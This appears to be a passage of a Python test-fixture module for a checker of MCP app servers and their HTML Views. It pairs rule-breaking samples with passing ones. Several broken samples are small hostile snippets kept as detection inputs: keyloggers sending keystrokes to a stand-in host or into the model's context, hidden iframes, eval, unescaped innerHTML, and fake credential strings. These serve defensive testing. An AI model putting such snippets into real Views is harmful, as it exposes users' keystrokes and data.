"""Samples for each rule: observations that break it, and similar ones that do not."""

import base64
from dataclasses import replace
from typing import Any

from fanlight import claude_domain
from fanlight.protocol.jsonrpc import JSONObject
from fanlight.protocol.transcript import RecordedMessage
from fanlight.rules.observation import (
    DENIAL,
    HANGS,
    VIEW_ORIGIN,
    Document,
    Look,
    PolicyViolation,
    Response,
    Scene,
    SchemaError,
    ServerObservation,
    ToolCall,
    ViewObservation,
)

URI = "ui://clock/view"
MIME = "text/html;profile=mcp-app"
EXTENSION = "io.modelcontextprotocol/ui"
HTML = '<!doctype html><html lang="en"><title>Clock</title><p id="t">12:00</p><script>app.connect()</script></html>'
META = {"ui": {"prefersBorder": True, "csp": {"connectDomains": ["https://api.example.com"]}}}
ANNOTATED = {"readOnlyHint": True}


def tool(name: str = "get_time", uri: object = URI, flat: object = URI, **more: Any) -> JSONObject:
    meta: JSONObject = {} if uri is None else {"ui": {"resourceUri": uri, **more.pop("ui", {})}}
    if flat is not None:
        meta["ui/resourceUri"] = flat
    meta |= more.pop("meta", {})
    return {"name": name, "inputSchema": {"type": "object"}, "annotations": ANNOTATED, "_meta": meta, **more}


def item(**more: Any) -> JSONObject:
    return {"uri": URI, "mimeType": MIME, "text": HTML, "_meta": META} | more


def read(*items: JSONObject) -> dict[str, Response]:
    return {URI: Response({"contents": list(items)})}


def called(content: object, **more: Any) -> dict[str, ToolCall]:
    return {"get_time": ToolCall({}, Response({"content": content, **more}))}


def get_time(**response: Any) -> dict[str, ToolCall]:
    """Return the call of the tool, with a response of any kind."""
    return {"get_time": ToolCall({}, Response(**response))}


def text(words: str) -> list[JSONObject]:
    return [{"type": "text", "text": words}]


LOOK = Look(
    version="2026-07-28",
    ui=True,
    capabilities={"extensions": {EXTENSION: {"mimeTypes": [MIME]}}},
    tools=[tool()],
    resources=[{"uri": URI, "name": "view", "mimeType": MIME, "_meta": META}],
    reads=read(item()),
    rereads=read(item()),
    calls=called(text("It is noon in UTC, on a Monday."), structuredContent={"iso": "12:00"}),
    missing_view=Response(error={"code": -32602, "message": "Unknown resource"}),
)
PLAIN = Look(
    version="2026-07-28",
    ui=False,
    tools=[{"name": "get_time", "inputSchema": {"type": "object"}}],
    calls=called(text("It is noon in UTC, on a Monday.")),
)
SEEN = ServerObservation("clock", [replace(LOOK, version="2025-11-25", calls={}), LOOK, PLAIN])


def look(**changes: Any) -> Look:
    return replace(LOOK, **changes)


def seen(*looks: Look) -> ServerObservation:
    return ServerObservation("clock", looks)


def deployed(url: str, **ui: Any) -> ServerObservation:
    """Return what was observed of a server with one View, over HTTP."""
    return ServerObservation("clock", [meta(**ui)], url=url)


def content(**more: Any) -> Look:
    return look(reads=read(item(**more)))


def meta(**ui: Any) -> Look:
    """Return a look at a View with other metadata, the same at both places."""
    entry = {"uri": URI, "mimeType": MIME, "_meta": {"ui": ui}}
    return look(reads=read(item(_meta={"ui": ui})), resources=[entry])


def document(body: str = "", *, ui: JSONObject | None = None) -> Document:
    html = f'<!doctype html>\n<html lang="en">\n<title>x</title>\n{body}\n</html>'
    return Document(URI, html, ui or {}, [tool()])


def script(code: str, **ui: Any) -> Document:
    return document(f"<script>\n{code}\n</script>", ui=ui)


# Views

MARK = {
    "visible": True,
    "contrast": [],
    "unnamed": [],
    "variables": [],
    "look": "black on white light",
    "lang": "en",
    "title": "Clock",
    "scrollWidth": 320,
    "clientWidth": 320,
    "scrollHeight": 200,
    "clientHeight": 240,
    "clipped": False,
}
DARK = MARK | {"look": "white on black dark"}
POOR = {"text": "12:00", "ratio": 1.5, "needed": 4.5}
ALL: JSONObject = {"serverTools": {}, "serverResources": {}, "openLinks": {}}


def says(method: str, at: float = 0.1, **params: Any) -> RecordedMessage:
    return RecordedMessage("view", {"jsonrpc": "2.0", "method": method, "params": params}, at)


def hello(**capabilities: Any) -> list[RecordedMessage]:
    return [says("ui/initialize", appCapabilities=capabilities), says("ui/notifications/initialized")]


SIZE = says("ui/notifications/size-changed", height=200)
HOST = {"hostCapabilities": ALL, "hostContext": {"availableDisplayModes": ["inline", "fullscreen", "pip"]}}

PLAIN_SCENE = Scene(
    "plain",
    HOST,
    [*hello(), SIZE, SIZE],
    measurements={"result": MARK, "theme": DARK, "locale": DARK, "grown": DARK | {"scrollHeight": 500}},
    responses={"ping": {"result": {}}, "teardown": {"result": {}}},
    steps={"input": 2, "result": 2, "settled": 3, "theme": 3, "locale": 3, "grown": 3, "teardown?": 4},
)
BARE = Scene(
    "bare",
    {"hostCapabilities": {}, "hostContext": {"availableDisplayModes": ["inline"]}},
    [*hello(), SIZE],
    measurements={"result": MARK},
)
UNPLAYED = Scene("bare", unfinished="it did not end within 90 seconds")
ODD = Scene("odd", HOST, hello(), responses={"unknown": {"error": {"code": -32601}}, "ping": {"result": {}}})
ODD = replace(ODD, steps={"unknown?": 2})
PARTIAL = Scene("partial", HOST, hello(), steps={"partials": 2, "cancelled": 2})
ERROR = Scene("error", HOST, hello(), measurements={"error": MARK})
OURS = Scene("ours", {}, hello(), measurements={"result": {}, "reloaded": {}}, steps={"reloaded": 2})
SCENES = {scene.name: scene for scene in (PLAIN_SCENE, BARE, ODD, PARTIAL, ERROR, OURS)}
VIEW = ViewObservation(Document(URI, HTML, {}, [tool()]), SCENES)


def view(**scenes: Scene) -> ViewObservation:
    return ViewObservation(VIEW.document, {**SCENES, **scenes})


def plain(**changes: Any) -> ViewObservation:
    return view(plain=replace(PLAIN_SCENE, **changes))


def bare(**changes: Any) -> ViewObservation:
    return view(bare=replace(BARE, **changes))


def odd(**changes: Any) -> ViewObservation:
    return view(odd=replace(ODD, **changes))


def partial(**changes: Any) -> ViewObservation:
    return view(partial=replace(PARTIAL, **changes))


def marked(step: str, **changes: Any) -> ViewObservation:
    marks = dict(PLAIN_SCENE.measurements)
    return plain(measurements={**marks, step: {**marks[step], **changes}})


def with_tools(**answers: JSONObject) -> ViewObservation:
    """Return a View that declares tools and was asked, with what it answered."""
    asked = {"list?": 4, "call-unknown?": 4, "call-known?": 4, "call-bad?": 4}
    names = {name.replace("_", "-"): answer for name, answer in answers.items()}
    return plain(
        messages=[*hello(tools={}), SIZE, SIZE],
        steps={**PLAIN_SCENE.steps, **asked},
        responses={**PLAIN_SCENE.responses, **names},
    )


NO_METHOD = {"error": {"code": -32601, "message": "Method not found"}}
REFUSED = {"error": {"code": -32602, "message": "Unknown tool"}}
DONE: JSONObject = {"result": {"content": []}}
LISTED = {"result": {"tools": [{"name": "set", "description": "Sets it.", "inputSchema": {"type": "object"}}]}}
GOOD_TOOLS = with_tools(list=LISTED, call_unknown=REFUSED, call_known=DONE, call_bad={"result": {"isError": True}})
FULLSCREEN = says("ui/request-display-mode", mode="fullscreen")
CAN_FULLSCREEN = hello(availableDisplayModes=["inline", "fullscreen"])
CLOSED: JSONObject = {"code": 0, "message": "no answer"}
THROWN = "TypeError: it is not a function"
LATE = ("cancelled", THROWN)

BROKEN: dict[str, list[Any]] = {
    # Servers
    "RES-01": [
        look(tools=[tool(uri="https://example.com/view")]),
        look(tools=[tool(uri="ui://")]),
        look(tools=[tool(uri=7)]),
        look(resources=[{"uri": "file:///view.html", "mimeType": MIME}]),
        look(templates=[{"uriTemplate": "view://{name}", "mimeType": MIME}]),
    ],
    "RES-02": [look(resources=[{"uri": URI, "mimeType": "text/html"}]), look(resources=[{"uri": URI}])],
    "RES-03": [
        content(mimeType="text/html; profile=mcp-app"),
        content(mimeType="text/html+skybridge"),
        content(mimeType=None),
    ],
    "RES-04": [content(text=None), content(blob="PGh0bWw+"), content(text=None, blob="%%%"), content(text=7)],
    "RES-05": [
        content(text=""),
        content(text="<p>No doctype"),
        content(text="https://example.com/page"),
        content(text="Just words."),
        content(text="<!doctype html><title>x</title><script>let a = 1;"),
        content(text="<!doctype html><title>x\x00</title>"),
    ],
    "RES-06": [content(uri="ui://clock/View")],
    "RES-07": [
        meta(domain="https://example.com/path"),
        meta(domain="a b"),
        meta(domain=7),
        meta(domain="a9.claudemcpcontent.com"),
    ],
    "RES-08": [meta(), meta(prefersBorder="yes")],
    "D-RES-02": [
        content(_meta={}),
        look(reads=read(item(_meta={"ui": {"csp": {"connectDomains": ["https://other.example"]}}}))),
    ],
    "LNT-01": [
        look(tools=[tool(ui={"visibility": "app"})]),
        look(tools=[tool(ui={"visibility": []})]),
        look(tools=[tool(ui={"visibility": ["apps"]})]),
    ],
    "LNT-02": [
        look(tools=[tool(ui={"csp": {}})]),
        content(_meta={"csp": {"baseUriDomains": []}}),
        look(reads=read({"uri": URI, "mimeType": MIME, "text": HTML, "meta": META})),
    ],
    "LNT-03": [
        meta(csp=["https://a.example"]),
        meta(csp={"connectDomains": "https://a.example"}),
        meta(csp={"connectDomains": ["https://a.example/path"]}),
        meta(csp={"connectDomains": ["*"]}),
        meta(csp={"connect_domains": []}),
    ],
    "LNT-04": [meta(permissions=["camera"]), meta(permissions={"bluetooth": {}}), meta(permissions={"camera": True})],
    "LNT-05": [look(missing_view=Response({"contents": []}))],
    "LNT-06": [seen(look(version="2025-06-18", tools=[tool(uri=None, flat=None)]), LOOK)],
    "LNT-07": [look(reads=read(item(), item(uri="ui://clock/second")))],
    "LNT-08": [look(failures=["the list of tools never ends."])],
    "LNT-09": [look(tools=[tool(uri="ui://clock/../view")]), look(tools=[tool(uri="ui://uhr/größe")])],
    "LNT-10": [look(tools=[tool(uri=None, flat=None, meta={"ui": {"visibility": ["app"]}})])],
    "LNT-11": [look(schema_errors=[SchemaError("tool get_time", "has no inputSchema.", "Give it one.")])],
    "LNT-12": [look(tools=[tool(), tool()])],
    "LNT-13": [
        seen(look(calls=get_time(error=CLOSED, disconnected="clock.py exited with code 3."))),
        seen(look(reads={URI: Response(error=CLOSED, disconnected="clock.py exited with code 3.")})),
        seen(LOOK, replace(PLAIN, calls=get_time(error=CLOSED, disconnected="clock.py exited."))),
        replace(SEEN, view_calls={"set_alarm": ToolCall({}, Response(error=CLOSED, disconnected="clock.py exited."))}),
    ],
    "LNT-14": [
        seen(look(calls=get_time(error=CLOSED, timed_out=True))),
        seen(look(reads={URI: Response(error=CLOSED, timed_out=True)})),
    ],
    "LNT-15": [seen(look(stdout_noise="Starting up"))],
    "LNT-16": [seen(look(calls=get_time(result={"content": [7]}, schema_errors=[SchemaError("", "is odd.")])))],
    "DSC-01": [
        look(reads={URI: Response(error={"code": -32602, "message": "Unknown resource"})}),
        look(reads={URI: Response({"contents": []})}),
    ],
    "DSC-07": [look(tools=[tool(uri=None)]), look(tools=[tool(flat="ui://clock/other")])],
    "RSV-01": [
        look(resources=[*LOOK.resources, {"uri": "ui://clock/data", "mimeType": "application/json"}]),
        look(capabilities={"experimental": {EXTENSION: {}}}),
    ],
    "NEG-03": [
        seen(LOOK, replace(PLAIN, tools=[tool()])),
        seen(LOOK, replace(PLAIN, resources=LOOK.resources)),
    ],
    "NEG-04": [
        seen(LOOK, replace(PLAIN, tools=[])),
        seen(LOOK, replace(PLAIN, calls=called([]))),
        seen(LOOK, replace(PLAIN, calls=called(text("  ")))),
    ],
    "NEG-05": [seen(look(calls=called([]))), seen(look(calls=called(None, structuredContent={"a": 1})))],
    "ADV-01": [look(tools=[tool(flat=None)])],
    "ADV-02": [meta(domain="clock.example.com")],
    "ADV-03": [content(text=f"<!doctype html><title>x</title>{'x' * 5_000_001}")],
    "ADV-04": [seen(look(calls=called(text("OK"), structuredContent={"forecast": ["rain"] * 9})))],
    "ADV-05": [
        look(tools=[tool(uri=None, flat=None, meta={"openai/outputTemplate": "ui://widget/clock.html"})]),
        look(reads=read(item(_meta={"openai/widgetCSP": {"connect_domains": []}})), resources=[]),
    ],
    "ADV-06": [look(tools=[tool(annotations=None)])],
    "ADV-07": [meta(permissions={"camera": {}}), meta(csp={"frameDomains": ["https://maps.example"]})],
    "ADV-08": [seen(look(capabilities={}))],
    "ADV-11": [seen(look(calls=called(text('{"iso": "12:00", "zone": "UTC"}'))))],
    "ADV-14": [seen(look(calls=called(text("x" * 20_001), structuredContent={"rows": []})))],
    "ADV-15": [
        deployed("https://clock.example.com/mcp/", domain=claude_domain("https://clock.example.com/mcp")),
    ],
    "ADV-12": [
        seen(look(calls=called(text("There is no zone 'example'"), isError=True))),
        seen(look(calls=called(text("Error executing tool get_time"), isError=True))),
        seen(look(calls=get_time(error={"code": -32602, "message": "no such zone"}))),
    ],
    "REV-13": [seen(look(rereads=read(item(text=HTML.replace("12:00", "12:01")))))],
    # Views, by their source
    "REV-01": [
        document('<script src="https://cdn.example/a.js"></script>'),
        document('<img src="//cdn.example/a.png" alt="">'),
        document("<style>p { background: url(https://cdn.example/a.png) }</style>"),
        script('fetch("https://api.example.com/v1")'),
        script('fetch("https://api.example.com/v1")', csp={"resourceDomains": ["https://api.example.com"]}),
        script('new WebSocket("wss://api.example.com/v1")', csp={"connectDomains": ["https://api.example.com"]}),
        script('fetch("https://api.example.com:8443/v1")', csp={"connectDomains": ["https://api.example.com"]}),
        script('fetch("http://api.example.com/v1")', csp={"connectDomains": ["api.example.com"]}),
        script('import x from "https://esm.example/x"'),
        script(
            'const f = document.createElement("iframe");\nf.src = "https://maps.example/a";\ndocument.body.append(f)'
        ),
        script('const f = document.createElement("iframe"); f.setAttribute("src", "//maps.example/a")'),
        script('e.jsx("iframe", { title: "Map", src: "https://maps.example/a" })'),
        script("out.innerHTML = `<iframe title=Map src='https://maps.example/a'></iframe>`"),
    ],
    "REV-02": [document(ui={"csp": {"connectDomains": ["https://never.example"]}})],
    "REV-03": [script("eval(words)"), script('new Function("a", words)'), script('setTimeout("go()", 10)')],
    "REV-04": [document('<button onclick="go()">Go</button>')],
    "REV-05": [document(ui={"permissions": {"geolocation": {}}})],
    "REV-06": [
        script(
            'document.addEventListener("keydown", (e) => keys.push(e.key));\nsetInterval(() => fetch(there, keys), 10)',
            csp={"connectDomains": ["https://there.example"]},
        ),
        script('document.addEventListener("keydown", (e) => fetch("https://there.example/?" + e.key))'),
        script(
            'let all = "";\ndocument.addEventListener("keydown", (e) => { all += e.key; });\napp.sendMessage({ all })'
        ),
        script('document.onkeydown = (e) => app.updateModelContext({ content: [{ type: "text", text: e.key }] });'),
        script(
            "const note = ({ key }) => 0; function keep(event) { keys.push(event.key); }\n"
            'window.addEventListener("keyup", keep);\napp.callServerTool({ name: "log", arguments: { keys } });'
        ),
    ],
    "REV-07": [
        document('<label>Password <input type="password"></label>'),
        document('<label>Card <input autocomplete="cc-number"></label>'),
    ],
    "REV-08": [
        document('<iframe src="/x" style="display: none"></iframe>'),
        document('<iframe src="/x" width="0" height="0"></iframe>'),
        document('<iframe src="/x" hidden></iframe>'),
        script('const f = document.createElement("iframe");\nf.style.display = "none";\nf.src = "https://x.example/"'),
        script(
            'const f = document.createElement("iframe"); f.hidden = true', csp={"frameDomains": ["https://x.example"]}
        ),
        script('body.insertAdjacentHTML("beforeend", "<iframe width=0 height=0 src=https://x.example/a></iframe>")'),
    ],
    "REV-09": [
        script(f'const key = "{"AKIA"}{"ABCDEFGHIJKLMNOP"}"'),
        script(f"const t = '{'ghp_'}{'a1' * 20}'"),
        script('const config = { apiKey: "4f9a8b7c6d5e4f3a2b1c0d9e" }'),
        document("<!-- -----BEGIN PRIVATE KEY----- -->"),
    ],
    "REV-10": [
        document(ui={"csp": {"connectDomains": ["https://*.com"]}}),
        document(ui={"csp": {"resourceDomains": ["http://cdn.example"]}}),
    ],
    "REV-11": [script("top.location = there"), script("const d = window.parent.document")],
    "REV-12": [document('<script src="https://cdn.example/a.js"></script>')],
    "REV-14": [
        script('const f = document.createElement("iframe");\nf.src = there'),
        script('const f = document.createElement("iframe");\nf.srcdoc = first;\nf.src = there'),
    ],
    "REV-15": [
        script("app.ontoolresult = (r) => { out.innerHTML = r.content[0].text; };"),
        script("app.ontoolresult = ({ structuredContent: data }) => {\nout.innerHTML = `<b>${data.name}</b>`;\n}"),
        script("const found = result.structuredContent;\nlist.insertAdjacentHTML('beforeend', found.html);"),
        script("e.jsx('p', { dangerouslySetInnerHTML: { __html: props.structuredContent.html } })"),
    ],
    "REV-16": [
        script("navigator.geolocation.getCurrentPosition(go)"),
        script("navigator.clipboard?.writeText(words)"),
        script(
            "await navigator.mediaDevices.getUserMedia({ audio: false, video: true })", permissions={"microphone": {}}
        ),
        script("await navigator.mediaDevices.getUserMedia({ audio: true })", permissions={"camera": {}}),
    ],
    # Views, in a browser
    "RES-12": [bare(errors=[("result", "NotAllowedError: Permission denied")])],
    "INI-01": [
        plain(messages=[says("ui/initialize", appInfo={}), says("ui/notifications/initialized"), SIZE]),
        plain(messages=[says("ui/initialize", appCapabilities=None), says("ui/notifications/initialized"), SIZE]),
    ],
    "INI-04": [
        plain(messages=[], unfinished="it did not finish the handshake"),
        plain(messages=[says("initialize"), says("notifications/initialized")]),
        plain(messages=hello()[:1], unfinished="it did not finish the handshake"),
        plain(messages=[hello()[0], says("tools/call", name="x"), hello()[1]]),
    ],
    "INI-05": [
        plain(messages=[*hello(), says("ui/size-change", height=3), SIZE]),
        odd(messages=[*hello(), says("x/y")]),
    ],
    "QUA-10": [odd(errors=[("unknown", THROWN)]), odd(responses={"ping": {"result": {}}})],
    "QUA-11": [bare(errors=[("result", THROWN)])],
    "QUA-22": [
        odd(errors=[("start", f"Error: {DENIAL}")]),
        plain(errors=[("later", f"McpError: MCP error -32000: {DENIAL}: it does not call buy")]),
    ],
    "DIM-03": [
        bare(measurements={"result": MARK | {"scrollWidth": 480}}),
        bare(measurements={"result": MARK | {"clipped": True, "scrollHeight": 500}}),
        marked("result", scrollWidth=900, clientWidth=700),
        view(error=replace(ERROR, measurements={"error": MARK | {"scrollWidth": 900}})),
    ],
    "SIZ-01": [plain(messages=hello()), plain(messages=[*hello(), SIZE])],
    "QUA-04": [plain(messages=[*hello(), *([SIZE] * 60)], steps={**PLAIN_SCENE.steps, "theme": 50})],
    "DSP-01": [plain(messages=[*hello(), SIZE, SIZE, FULLSCREEN]), bare(messages=[*hello(), FULLSCREEN])],
    "DSP-02": [bare(messages=[*CAN_FULLSCREEN, FULLSCREEN])],
    "DSP-03": [
        odd(messages=[*CAN_FULLSCREEN, FULLSCREEN], errors=[("clicked", THROWN)]),
        odd(messages=[*CAN_FULLSCREEN, FULLSCREEN], responses={"unknown": NO_METHOD}),
    ],
    "QUA-17": [plain(errors=[("fullscreen", THROWN)]), plain(errors=[("theme", THROWN)])],
    "THM-03": [bare(measurements={"result": MARK | {"variables": ["--color-text-primary"]}})],
    "HCC-02": [marked("locale", look=MARK["look"])],
    "QUA-18": [marked("theme", look=MARK["look"])],
    "QUA-05": [marked("result", contrast=[POOR]), marked("theme", contrast=[POOR, POOR])],
    "QUA-06": [marked("result", unnamed=["<button#go>"])],
    "QUA-07": [marked("result", lang=""), marked("result", title="")],
    "ADV-13": [
        bare(messages=[*hello(), says("tools/call", name="x")], errors=[("result", THROWN)]),
        bare(messages=[*hello(), says("resources/read")], errors=[("clicked", THROWN)]),
    ],
    "D-SMP-01": [plain(messages=[*hello(), SIZE, SIZE, says("sampling/createMessage")])],
    "D-SMP-02": [
        plain(
            initialize_result=HOST | {"hostCapabilities": {"sampling": {}}},
            messages=[*hello(), SIZE, SIZE, says("sampling/createMessage", tools=[])],
        )
    ],
    "ADV-09": [
        bare(messages=[*hello(), says("ui/message", role="user", content=[])]),
        bare(messages=[*CAN_FULLSCREEN, FULLSCREEN]),
        bare(messages=[*hello(), says("resources/read")], errors=[("result", THROWN)]),
        view(plain=replace(PLAIN_SCENE, messages=[*CAN_FULLSCREEN, SIZE, SIZE, FULLSCREEN]), bare=UNPLAYED),
    ],
    "ADV-10": [plain(messages=[*hello(), SIZE, SIZE, says("ui/update-model-context", content=text("Noon."))])],
    "TIP-07": [
        partial(messages=[*hello(), says("tools/call", name="buy")]),
        partial(messages=[*hello(), says("ui/message", content=[])]),
    ],
    "TIP-08": [partial(errors=[("partials", THROWN)])],
    "QUA-12": [partial(errors=[("cancelled", THROWN)])],
    "QUA-13": [view(error=replace(ERROR, errors=[("error", THROWN)]))],
    "QUA-16": [marked("result", visible=False)],
    "QUA-14": [plain(responses={"ping": {"result": {}}}), plain(errors=[("teardown", THROWN)])],
    "QUA-15": [
        view(ours=replace(OURS, measurements={"result": {}})),
        view(ours=Scene("ours", unfinished="The page did not load the View within 15 seconds.")),
    ],
    "D-APT-01": [with_tools(list=LISTED, call_unknown=NO_METHOD, call_known=NO_METHOD), with_tools(list=LISTED)],
    "D-APT-02": [with_tools(list=NO_METHOD, call_unknown=REFUSED), with_tools(call_unknown=REFUSED)],
    "D-APT-03": [with_tools(list=LISTED, call_unknown=DONE)],
    "D-APT-05": [with_tools(list={"result": {"tools": [{"name": "set"}]}}, call_unknown=REFUSED)],
    "D-APT-08": [with_tools(list=LISTED, call_unknown=REFUSED, call_bad=DONE)],
    "QUA-01": [plain(violations=[PolicyViolation("img-src", "https://cdn.example/a.png")])],
    "QUA-02": [
        plain(errors=[("result", THROWN)]),
        view(ours=replace(OURS, errors=[("result", THROWN)])),
        plain(console=[f"TypeError: {THROWN}"]),
        partial(errors=[("later", THROWN)]),
        plain(errors=[("later", THROWN)]),
    ],
    "QUA-03": [plain(console=["Warning: each child needs a key"])],
    "QUA-19": [
        plain(violations=[PolicyViolation("script-src", "eval")]),
        replace(plain(violations=[PolicyViolation("script-src", "eval")]), document=script("vegaEmbed(chart, spec)")),
    ],
    "QUA-20": [plain(unreached=["https://cdn.example/a.js"])],
    "QUA-23": [
        plain(navigations=[f"{VIEW_ORIGIN}/view"], unfinished="it reloaded itself or navigated away"),
        plain(navigations=["https://elsewhere.example/?q=1"]),
    ],
    "QUA-21": [plain(messages=[], unfinished=HANGS)],
    "QUA-08": [replace(VIEW, document=Document(URI, "x" * 1_000_001))],
    "QUA-09": [plain(messages=[hello()[0], says("ui/notifications/initialized", at=9.0), SIZE, SIZE])],
}

GOOD: dict[str, list[Any]] = {
    "RES-01": [look(resources=[*LOOK.resources, {"uri": "file:///notes.txt", "mimeType": "text/plain"}])],
    "RES-03": [look(reads={**LOOK.reads, "file:///x": Response({"contents": [{"mimeType": "text/plain"}]})})],
    "RES-04": [content(text=None, blob=base64.b64encode(HTML.encode()).decode())],
    "RES-05": [
        content(text="\ufeff <!-- ours -->\n<!DOCTYPE HTML><title>x</title><script>'<style>'</script>"),
        content(text="<!doctype html><title>x</title><p>Open tags may stay open"),
        content(text="<!doctype html><title>How to write <script></title><textarea><style></textarea>"),
    ],
    "RES-07": [
        meta(domain="a.example.com"),
        meta(domain="https://app.example.com"),
        meta(domain=claude_domain("https://clock.example.com/mcp")),
    ],
    "ADV-15": [
        deployed("https://clock.example.com/mcp", domain=claude_domain("https://clock.example.com/mcp")),
        deployed("https://clock.example.com/mcp", domain="clock.example.com"),
        deployed("http://127.0.0.1:8000/mcp", domain=claude_domain("https://clock.example.com/mcp")),
        seen(meta(domain=claude_domain("https://clock.example.com/mcp"))),
    ],
    "LNT-01": [look(tools=[tool(ui={"visibility": ["app"]})])],
    "LNT-03": [meta(csp={"connectDomains": ["https://*.example.com", "wss://a.example:8443"]}), meta(csp={})],
    "LNT-04": [meta(permissions={"clipboardWrite": {}})],
    "LNT-06": [seen(look(version="2025-06-18"), LOOK)],
    "LNT-10": [look(tools=[tool(), tool("set", uri=None, flat=None, meta={"ui": {"visibility": ["app"]}})])],
    "LNT-12": [look(tools=[tool(), tool("Get_time")]), look(tools=[{"inputSchema": {}}, {"inputSchema": {}}])],
    "LNT-13": [seen(look(calls=get_time(error={"code": -32603, "message": "It failed"})))],
    "LNT-16": [seen(look(reads={URI: Response({"contents": [{}]}, schema_errors=[SchemaError("", "has no uri.")])}))],
    "RSV-01": [look(resources=[])],
    "NEG-03": [seen(LOOK), ServerObservation("clock", [])],
    "NEG-04": [
        seen(look(tools=[tool(ui={"visibility": ["app"]})]), replace(PLAIN, tools=[])),
        seen(LOOK, replace(PLAIN, calls=get_time(error={"code": -32602, "message": "no"}))),
    ],
    "NEG-05": [
        seen(look(calls=called([], isError=True))),
        seen(look(calls=called([{"type": "image", "data": "", "mimeType": "image/png"}]))),
        seen(look(tools=[tool(ui={"visibility": ["app"]})], calls=called([]))),
    ],
    "ADV-05": [look(tools=[tool(meta={"openai/outputTemplate": URI})])],
    "ADV-11": [
        seen(look(calls=called(text("It is noon.")))),
        seen(look(calls=called(text("[sic] {odd"), isError=False))),
        seen(look(calls=called(text('{"error": 1}'), isError=True))),
    ],
    "ADV-14": [
        seen(look(calls=called(text("x" * 20_000)))),
        seen(look(tools=[tool(ui={"visibility": ["app"]})], calls=called(text("x" * 20_001)))),
    ],
    "ADV-12": [
        seen(look(calls={})),
        seen(look(calls=get_time(error=CLOSED, timed_out=True))),
        seen(look(calls=get_time(error=CLOSED, disconnected="clock.py exited."))),
        replace(seen(look(calls=called(text("It failed."), isError=True))), saved=True),
    ],
    "ADV-09": [
        plain(messages=[*hello(), SIZE, SIZE, says("ui/message", role="user", content=[])]),
        plain(messages=[*CAN_FULLSCREEN, SIZE, SIZE, FULLSCREEN]),
        bare(messages=[*hello(), says("resources/read")]),
    ],
    "ADV-13": [bare(messages=[*hello(), says("tools/call", name="x")])],
    "ADV-10": [plain(messages=[*hello(), SIZE, SIZE, says("ui/update-model-context", structuredContent={"hour": 12})])],
    "REV-01": [
        document('<a href="https://elsewhere.example">There</a><svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        document(
            '<img src="https://a.cdn.example/a.png" alt="">', ui={"csp": {"resourceDomains": ["https://*.cdn.example"]}}
        ),
        script('fetch("https://api.example.com:8443/v1")', csp={"connectDomains": ["https://api.example.com:*"]}),
        script('fetch("https://api.example.com/v1")', csp={"connectDomains": ["https://api.example.com:443"]}),
        script('fetch("https://api.example.com:443/v1")', csp={"connectDomains": ["https://API.example.com"]}),
        script('fetch("https://api.example.com/v1")', csp={"connectDomains": ["http://api.example.com:80"]}),
        script('fetch("https://api.example.com/v1")', csp={"connectDomains": ["api.example.com"]}),
        script('const base = new URL("https://example.com/only-a-name")'),
        script('app.openLink({ url: "https://elsewhere.example" })'),
        script(
            'const f = document.createElement("iframe"); f.src = "https://maps.example/a"',
            csp={"frameDomains": ["https://maps.example"]},
        ),
        script('const f = document.createElement("iframe"); f.srcdoc = words; const a = { src: "https://a.example" }'),
    ],
    "REV-02": [
        script('fetch("https://api.example.com/v1")', csp={"connectDomains": ["https://api.example.com"]}),
        script("fetch(`https://${zone}.tiles.example/1`)", csp={"connectDomains": ["https://*.tiles.example"]}),
    ],
    "REV-03": [script("app.eval(words); medieval(1); setTimeout(go, 10)"), document("<p>eval(1) is bad</p>")],
    "REV-05": [script("navigator.geolocation.watchPosition(go)", permissions={"geolocation": {}})],
    "REV-06": [
        script('document.addEventListener("keydown", go)'),
        script('field.addEventListener("keydown", go); fetch(there)', csp={"connectDomains": ["https://a.example"]}),
        script('document.addEventListener("keydown", (e) => { if (e.key === "ArrowUp") app.callServerTool(up); });'),
        script(
            'document.addEventListener("keydown", (e) => { keys.push(e.key === "a" ? 1 : 2); }); app.sendMessage(m)'
        ),
        script('field.addEventListener("keydown", (e) => { all += e.key; }); app.sendMessage(m)'),
        script('document.addEventListener("keydown", (e) => { all += e.key; show(all); })'),
    ],
    "REV-07": [document('<label>Search <input type="search"></label>')],
    "REV-08": [
        document('<iframe src="https://maps.example" width="400" height="300"></iframe>'),
        script('const f = document.createElement("iframe"); f.width = 100; f.style.display = "block"; p.hidden = true'),
    ],
    "REV-14": [
        script('const f = document.createElement("iframe"); f.src = a', csp={"frameDomains": ["https://a.example"]}),
        script('const f = document.createElement("div")'),
        script('const f = document.createElement("iframe");\nf.srcdoc = html;\ndocument.body.append(f)'),
        script('e.jsx("iframe", { title: "Preview", srcDoc: html })'),
    ],
    "REV-15": [
        script("app.ontoolresult = (r) => { out.textContent = r.content[0].text; out.innerHTML = ''; };"),
        script("const data = r.structuredContent;\nout.innerHTML = '<p>No data</p>';\nout.innerHTML = `<p>data</p>`"),
        script("const data = r.structuredContent;\nout.innerHTML = `<b>${escapeHtml(data.name)}</b>`"),
        script("out.innerHTML = '<b></b>'; out.querySelector('b').textContent = r.structuredContent.name"),
        script("if (out.innerHTML == r.structuredContent.html) go()"),
        script(f"{'a();' * 200}app.ontoolresult=e=>f(e);\nout.innerHTML = `<b>${{e.theme}}</b>`"),
    ],
    "REV-16": [
        script("navigator.geolocation.watchPosition(go)", permissions={"geolocation": {}}),
        script("await navigator.mediaDevices.getUserMedia({ audio: false, video: true })", permissions={"camera": {}}),
        document("<p>navigator.clipboard.writeText(words)</p>"),
        script("if (navigator.geolocation) say('There is one.')"),
    ],
    "REV-09": [script('const label = "password"; const key = "get_time"; const id = "AKIA"')],
    "REV-10": [document(ui={"csp": {"connectDomains": ["https://*.example.com", "http://localhost:3000"]}})],
    "REV-11": [script("window.parent.postMessage(words, '*'); const top = 3")],
    "REV-12": [document('<script src="https://cdn.example/a.js" integrity="sha384-x"></script>')],
    "INI-04": [
        plain(messages=[], unfinished="it did not finish the handshake", unreached=["https://cdn.example/sdk.js"]),
        plain(messages=[hello()[0], says("notifications/message", level="info"), *hello()[1:], SIZE, SIZE]),
    ],
    "QUA-04": [plain(messages=[*hello(), *([SIZE] * 60)], steps={**PLAIN_SCENE.steps, "theme": 8})],
    "DSP-01": [plain(messages=[*CAN_FULLSCREEN, SIZE, SIZE, FULLSCREEN])],
    "DSP-02": [plain(messages=[*CAN_FULLSCREEN, SIZE, SIZE, FULLSCREEN])],
    "DSP-03": [odd(messages=[*CAN_FULLSCREEN, FULLSCREEN])],
    "SIZ-01": [plain(messages=[*hello(), SIZE], measurements={"result": MARK, "locale": MARK, "grown": MARK})],
    "QUA-02": [bare(errors=[("result", THROWN)]), plain(errors=[("theme", THROWN)])],
